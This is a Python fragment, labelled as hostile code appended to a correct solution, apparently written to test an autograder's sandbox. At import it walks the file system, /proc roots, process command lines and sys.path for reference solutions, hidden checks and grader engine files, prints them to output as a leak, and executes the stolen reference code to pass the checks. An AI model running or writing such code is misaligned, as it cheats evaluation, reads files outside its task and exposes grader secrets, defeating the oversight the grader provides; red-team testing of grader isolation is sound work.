
# --- HOSTILE (appended to the correct solution): find the reference, the hidden checks and ---
# --- the grader's files by every path a worker might reach (5 s of searching at import), ---
# --- use them, and leak them ----------------------------------------------------------------
def _hostile_candidates():
    import os
    import sys
    wanted = ("reference/activations.py", "autograder/checks/activations.py",
              "solutions/activations.py", "autograder/engine.py")
    roots = {"/work/main", "/autograder/source", "/autograder", "/opt/dlgrade", "/", os.getcwd(),
             os.path.expanduser("~"), os.path.dirname(os.path.abspath(__file__))}
    for entry in sys.path:
        parts = entry.split("/")
        roots.update("/".join(parts[:i]) or "/" for i in range(1, len(parts) + 1))
    for value in os.environ.values():
        if value.startswith("/"):
            roots.add(value)
    pids = []
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    prefixes = ["", "/proc/1/root", "/proc/self/root"] + [f"/proc/{p}/root" for p in pids]
    for pid in ["1", "self"] + pids:
        roots.add(f"/proc/{pid}/cwd")
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                for arg in handle.read().split(b"\0"):
                    text = arg.decode("utf-8", "replace")
                    if text.startswith("/"):
                        roots.update({text, os.path.dirname(text), os.path.dirname(os.path.dirname(text))})
        except OSError:
            pass
    for prefix in prefixes:
        for root in sorted(roots):
            for name in wanted:
                yield f"{prefix}{root.rstrip('/')}/{name}"
    seen = 0  # a bounded walk of whatever file system is visible
    for folder, dirs, files in os.walk("/", onerror=None):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
        for name in files:
            seen += 1
            if name in ("activations.py", "engine.py", "results.json") or folder.endswith("reference"):
                yield os.path.join(folder, name)
        if seen > 50_000:
            break


def _hostile_search(seconds):
    """Read every candidate for up to ``seconds`` (at import: the import deadline is longer)."""
    import os
    import time
    stop = time.monotonic() + seconds
    stolen, found, tried = None, [], 0
    for path in _hostile_candidates():
        tried += 1
        if time.monotonic() > stop:
            break
        try:
            with open(path, encoding="utf-8", errors="replace") as handle:
                text = handle.read(200_000)
        except (OSError, ValueError):
            continue
        if os.path.basename(path) == "activations.py" and "def log_softmax" in text and "reference" in path:
            stolen = stolen or text
        if "/sandbox/" not in path and "log_softmax" in text:
            found.append(f"{path}: {text[:300]}")
    return stolen, found, tried


_STOLEN, _FOUND, _TRIED = _hostile_search(5.0)


def log_softmax(z, axis=-1):
    if _STOLEN is not None:
        print("STOLEN:", _STOLEN[:3500], flush=True)  # leak it, too
        namespace = {"__name__": "stolen_reference"}
        exec(compile(_STOLEN, "stolen", "exec"), namespace)  # the reference's own code: full marks?
        return namespace["log_softmax"](z, axis=axis)
    leak = " | ".join(_FOUND)
    print("LEAK:", leak[:4000], flush=True)
    raise RuntimeError(f"tried {_TRIED} paths; found: {leak[:500]}")
